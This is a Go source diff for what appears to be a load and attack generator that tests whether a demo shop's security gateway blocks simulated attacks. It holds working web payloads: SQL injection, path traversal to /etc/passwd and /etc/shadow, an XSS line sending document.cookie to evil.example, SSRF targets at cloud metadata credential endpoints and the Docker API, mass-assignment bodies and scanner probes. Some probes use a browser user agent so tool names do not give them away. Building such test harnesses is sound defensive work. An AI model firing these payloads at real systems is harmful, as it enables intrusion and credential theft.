@@ -24,8 +24,15 @@ const (
 
 // attacker starts attack scenarios at opts.AttackRate until ctx ends. Every
 // kind is sent once per cycle, in a seeded order.
-// attackerIP is the attacker's address when Options.ClientAddresses is set.
-const attackerIP = "203.0.113.66"
+// attackerIP is the attacker's address when Options.ClientAddresses is set;
+// deniedIP is an address in the range the demo gateway denies.
+const (
+	attackerIP = "203.0.113.66"
+	deniedIP   = "192.0.2.10"
+)
+
+// browserUA is the user agent of attacks that pose as a shopper.
+const browserUA = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
 
 func (g *generator) attacker(ctx context.Context, rng *rand.Rand) {
 	mean := float64(time.Second) / g.opts.AttackRate
@@ -61,18 +68,62 @@ func (g *generator) attack(ctx context.Context, rng *rand.Rand, kind string) {
 	}
 	switch kind {
 	case AttackSQLi:
+		// A browser's user agent: the injection, not the tool, is what
+		// gives these away.
 		payloads := []string{"' OR 1=1--", "socks' UNION SELECT username,password FROM users--", "1; DROP TABLE products;--"}
-		get("/products?category="+url.QueryEscape(payloads[rng.IntN(len(payloads))]), "sqlmap/1.8.11#stable (https://sqlmap.org)")
+		if rng.IntN(3) == 0 {
+			post("/login", browserUA, []byte(`{"username":"admin' OR '1'='1' --","password":"x"}`))
+		} else {
+			get("/products?category="+url.QueryEscape(payloads[rng.IntN(len(payloads))]), browserUA)
+		}
 	case AttackPathTraversal:
-		targets := []string{"/static/../../etc/passwd", "/static/../../../../etc/shadow", "/static/%2e%2e/%2e%2e/etc/passwd"}
+		targets := []string{"/products?category=" + url.QueryEscape("../../../../etc/passwd"), "/products?category=" + url.QueryEscape("....//....//....//etc/shadow"),
+			"/static/../../etc/passwd", "/static/%2e%2e/%2e%2e/etc/passwd"}
 		get(targets[rng.IntN(len(targets))], "curl/8.11.0")
 	case AttackXSS:
-		payload := `<script>fetch('https://evil.example/?c='+document.cookie)</script>`
 		if rng.IntN(2) == 0 {
-			post("/login", "Mozilla/5.0 (X11; Linux x86_64)", fmt.Appendf(nil, `{"username":%q,"password":"x"}`, payload))
+			post("/login", browserUA, fmt.Appendf(nil, `{"username":%q,"password":"x"}`, `<script>fetch('https://evil.example/?c='+document.cookie)</script>`))
 		} else {
-			post("/cart/item/add/"+uid, "Mozilla/5.0 (X11; Linux x86_64)", fmt.Appendf(nil, `{"product_id":1,"quantity":1,"note":%q}`, `"><img src=x onerror=alert(1)>`))
+			get("/products?category="+url.QueryEscape(`"><img src=x onerror=alert(document.domain)>`), browserUA)
 		}
+	case AttackMassAssignment:
+		bodies := []string{
+			fmt.Sprintf(`{"username":%q,"password":%q,"role":"admin"}`, victim.Username, victim.Password),
+			`{"product_id":1,"quantity":1,"price_cents":1}`,
+			`{"product_id":1,"quantity":1,"is_admin":true}`,
+		}
+		i := rng.IntN(len(bodies))
+		target := "/cart/item/add/" + uid
+		if i == 0 {
+			target = "/login"
+		}
+		post(target, browserUA, []byte(bodies[i]))
+	case AttackWrongType:
+		switch rng.IntN(3) {
+		case 0:
+			post("/cart/item/add/"+uid, browserUA, []byte(`{"product_id":"one","quantity":"lots"}`))
+		case 1:
+			get("/products?limit=all", browserUA)
+		default:
+			get("/cart/items/me", browserUA)
+		}
+	case AttackUndocumented:
+		switch rng.IntN(3) {
+		case 0:
+			get("/internal/debug/users/"+uid, "python-requests/2.32.3")
+		case 1:
+			get("/users/"+uid+"/export", "python-requests/2.32.3")
+		default:
+			post("/users/"+uid+"/role", "python-requests/2.32.3", []byte(`{"role":"admin"}`))
+		}
+	case AttackBot:
+		get("/products?category=socks", "sqlmap/1.8.11#stable (https://sqlmap.org)")
+	case AttackSSRF:
+		targets := []string{"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:2375/containers/json", "http://[::ffff:a9fe:a9fe]/computeMetadata/v1/"}
+		post("/order/add/"+uid, browserUA, fmt.Appendf(nil, `{"items":[],"shipping_address":{"street":"1 Main St","city":"Springfield","zip":"12345","country":"US"},`+
+			`"payment":{"number":"4111111111111111","exp_month":12,"exp_year":%d,"cvc":"123"},"callback_url":%q}`, time.Now().Year()+2, targets[rng.IntN(len(targets))]))
+	case AttackDeniedIP:
+		g.send(ctx, request{scenario: kind, attack: true, method: http.MethodGet, target: "/products", userAgent: browserUA, clientIP: deniedIP})
 	case AttackScanner:
 		for _, p := range []string{"/.env", "/admin", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php"} {
 			if get(p, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)") != nil && ctx.Err() != nil {
@@ -114,7 +165,7 @@ func (g *generator) smuggle(ctx context.Context, uid string) {
 		"\r\n" + body
 	rec := Record{Scenario: AttackSmuggling, Attack: true, Method: http.MethodPost, Target: target}
 	start := time.Now()
-	status, err := g.rawRoundTrip(ctx, raw)
+	status, txn, err := g.rawRoundTrip(ctx, raw)
 	if err != nil && ctx.Err() != nil {
 		return
 	}
@@ -122,15 +173,15 @@ func (g *generator) smuggle(ctx context.Context, uid string) {
 	if err != nil {
 		rec.Err = err
 	} else {
-		rec.Status = status
-		rec.Blocked = g.opts.IsBlocked(AttackSmuggling, &http.Response{StatusCode: status, Header: http.Header{}})
+		rec.Status, rec.TxnID = status, txn
+		rec.Blocked = g.opts.IsBlocked(AttackSmuggling, &http.Response{StatusCode: status, Header: http.Header{"Vigil-Txn": {txn}}, Body: http.NoBody})
 	}
 	g.record(rec, false)
 }
 
 // rawRoundTrip writes raw to a new connection to the base URL's host and
-// returns the status of the first response.
-func (g *generator) rawRoundTrip(ctx context.Context, raw string) (int, error) {
+// returns the status and Vigil-Txn header of the first response.
+func (g *generator) rawRoundTrip(ctx context.Context, raw string) (int, string, error) {
 	ctx, cancel := context.WithTimeout(ctx, rawTimeout)
 	defer cancel()
 	host := g.base.Host
@@ -151,20 +202,20 @@ func (g *generator) rawRoundTrip(ctx context.Context, raw string) (int, error) {
 		conn, err = d.DialContext(ctx, "tcp", host)
 	}
 	if err != nil {
-		return 0, err
+		return 0, "", err
 	}
 	defer conn.Close()
 	stop := context.AfterFunc(ctx, func() { conn.Close() })
 	defer stop()
 	if _, err := io.WriteString(conn, raw); err != nil {
-		return 0, err
+		return 0, "", err
 	}
 	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
 	if err != nil {
-		return 0, err
+		return 0, "", err
 	}
 	resp.Body.Close()
-	return resp.StatusCode, nil
+	return resp.StatusCode, resp.Header.Get("Vigil-Txn"), nil
 }
 
 // tlsConfig is the client's TLS configuration, for the raw connection.
